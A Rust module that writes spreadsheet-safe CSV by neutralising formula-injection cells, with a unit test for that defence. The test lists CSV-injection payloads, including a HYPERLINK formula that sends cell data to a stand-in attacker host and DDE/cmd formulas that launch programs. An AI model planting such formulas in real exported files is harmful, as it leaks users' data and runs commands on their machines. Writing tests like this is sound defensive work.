//! CSV as spreadsheets read it (RFC 4180: CRLF line ends, every cell quoted, quotes doubled),
//! safe against formula injection: a cell a spreadsheet would run as a formula — one starting
//! with `=`, `+`, `-`, `@`, a tab or a carriage return — is neutralised by a leading apostrophe,
//! which spreadsheets show as text (OWASP's advice). A cell that is a plain number stays a number.

/// Whether a spreadsheet could read `cell` as a formula.
fn dangerous(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

fn is_number(cell: &str) -> bool {
    !cell.is_empty()
        && cell.len() < 40
        && cell
            .trim_start_matches('-')
            .chars()
            .all(|c| c.is_ascii_digit() || c == '.')
        && cell.trim_start_matches('-').chars().any(|c| c.is_ascii_digit())
        && cell.matches('.').count() <= 1
        && cell.matches('-').count() <= 1
}

/// One cell, quoted and neutralised.
pub fn cell(value: &str) -> String {
    let safe = if dangerous(value) && !is_number(value) {
        format!("'{value}")
    } else {
        value.to_owned()
    };
    format!("\"{}\"", safe.replace('"', "\"\""))
}

/// One row, ending in CRLF.
pub fn row<S: AsRef<str>>(cells: impl IntoIterator<Item = S>) -> String {
    let mut line = cells
        .into_iter()
        .map(|c| cell(c.as_ref()))
        .collect::<Vec<_>>()
        .join(",");
    line.push_str("\r\n");
    line
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Payloads from OWASP's "CSV Injection" page and common spreadsheet exploits.
    #[test]
    fn formulas_are_neutralised_and_everything_else_is_kept() {
        for payload in [
            "=1+1",
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
            "+1+1",
            "-1+1",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=cmd|' /C notepad'!'A1'",
            "\t=1+1",
            "\r=1+1",
            "-2+3+cmd|' /C calc'!A0",
            "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
            "@",
            "-",
        ] {
            let c = cell(payload);
            assert!(c.starts_with("\"'"), "{payload:?} → {c}");
            assert_eq!(
                c[2..c.len() - 1].replace("\"\"", "\""),
                payload,
                "the text itself is kept"
            );
        }
        for plain in ["Agree", "12", "-3", "4.5", "-0.25", "a=b", " =1", "Ann O'Neil", "“=”"] {
            assert!(!cell(plain).starts_with("\"'"), "{plain:?} is left as it is");
        }
        assert_eq!(cell("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(row(["a", "b,c", "line\nbreak"]), "\"a\",\"b,c\",\"line\nbreak\"\r\n");
        assert!(
            cell("1-2").starts_with("\"1"),
            "a date-like text starting with a digit is not a formula"
        );
        assert!(cell("--1").starts_with("\"'"), "two minus signs are not a number");
    }
}
